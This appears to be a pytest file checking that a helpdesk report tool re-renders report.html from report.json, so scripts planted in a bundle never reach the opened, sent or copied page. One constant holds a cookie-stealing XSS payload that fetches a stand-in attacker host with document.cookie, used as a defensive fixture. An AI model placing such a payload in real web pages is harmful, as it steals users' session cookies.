"""Issue 13.3: report.html is never trusted from disk; it is rendered from report.json when
opening, when sending and when copying, so a script planted in a bundle goes nowhere."""

from __future__ import annotations

import webbrowser
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from app.bundle import REPORT_HTML, read_bundle
from app.cli import main
from app.context import AppContext
from app.helpdesk.delivery import Deliverer
from app.helpdesk.delivery_bundle import open_delivery_bundle
from app.helpdesk.folder import FolderConnector
from app.helpdesk.outbox import Outbox
from app.render.html import render_html
from tests.factories import sample_bundle

PLANTED = "<script>fetch('https://evil.invalid/'+document.cookie)</script>"


def planted(tmp_path: Path, as_zip: bool = False) -> Path:
    bundle = sample_bundle(tmp_path / "drafts")
    html = bundle / REPORT_HTML
    html.write_text(html.read_text("utf-8").replace("</main>", PLANTED + "</main>"), "utf-8")
    if not as_zip:
        return bundle
    path = tmp_path / f"{bundle.name}.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for p in sorted(bundle.rglob("*")):
            if p.is_file() and p.name != "report.json":
                zf.write(p, p.relative_to(bundle).as_posix())
        zf.write(bundle / "report.json", "report.json")
    return path


@pytest.mark.parametrize("as_zip", [False, True], ids=["folder", "zip"])
def test_the_html_that_is_sent_is_rendered_from_report_json(tmp_path: Path,
                                                             as_zip: bool) -> None:
    path = planted(tmp_path, as_zip)
    delivered = open_delivery_bundle(path)
    sent = next(f for f in delivered.files if f.kind == "report_html")
    html = sent.read_bytes().decode("utf-8")
    assert "<script" not in html
    steps = {s.image: s.image for s in delivered.report.steps}
    assert steps  # the page names the screenshots sent beside it
    assert html == render_html(read_bundle(path), attached=steps)


@pytest.mark.parametrize("as_zip", [False, True], ids=["folder", "zip"])
def test_flare_open_shows_a_rendered_page(tmp_path: Path, as_zip: bool,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    path = planted(tmp_path, as_zip)
    opened: list[str] = []
    monkeypatch.setattr(webbrowser, "open", lambda url, *a, **k: opened.append(url) or True)
    ctx = AppContext.for_tests(tmp_path / "home")
    assert main(["open", str(path)], context_factory=lambda _d: ctx) == 0
    [url] = opened
    shown = Path(url.removeprefix("file://"))
    assert shown != path / REPORT_HTML
    assert "<script" not in shown.read_text("utf-8")


def test_the_spool_and_the_folder_destination_carry_the_rendered_page(tmp_path: Path) -> None:
    path = planted(tmp_path)
    reports = tmp_path / "reports"
    with Outbox(tmp_path / "state", lambda: datetime.now(UTC)) as box:
        item = box.enqueue(path, "folder", report_id="r1")
        assert "<script" not in (item.bundle_path / REPORT_HTML).read_text("utf-8")
        [outcome] = Deliverer(box, lambda _d: FolderConnector(reports)).run_due()
    assert outcome.state == "sent"
    [copy] = [p for p in reports.iterdir() if not p.name.startswith(".")]
    assert "<script" not in (copy / REPORT_HTML).read_text("utf-8")
